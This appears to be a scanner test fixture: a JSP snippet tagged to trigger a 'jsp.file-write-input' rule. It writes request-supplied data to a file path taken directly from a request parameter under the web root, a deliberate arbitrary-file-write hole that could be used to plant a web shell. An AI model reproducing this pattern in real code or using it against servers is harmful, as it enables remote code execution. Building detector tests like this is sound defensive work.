<%-- expect rule=jsp.file-write-input min=75 --%>
<%
    java.util.logging.Logger lg = java.util.logging.Logger.getLogger("x");
    java.util.logging.FileHandler fh = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("p"));
    lg.addHandler(fh);
    lg.info(request.getParameter("d"));
%>
